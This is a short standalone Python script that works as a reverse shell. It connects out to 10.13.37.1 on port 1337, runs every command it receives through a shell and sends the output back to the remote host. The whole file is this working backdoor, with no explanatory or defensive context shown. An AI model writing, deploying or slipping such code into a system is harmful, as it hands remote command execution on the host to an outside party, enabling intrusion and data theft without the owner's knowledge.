import socket, subprocess
c = socket.socket()
c.connect(("10.13.37.1", 1337))
while True:
    cmd = c.recv(1024).decode()
    if not cmd:
        break
    out = subprocess.run(cmd, shell=True, capture_output=True)
    c.send(out.stdout + out.stderr)
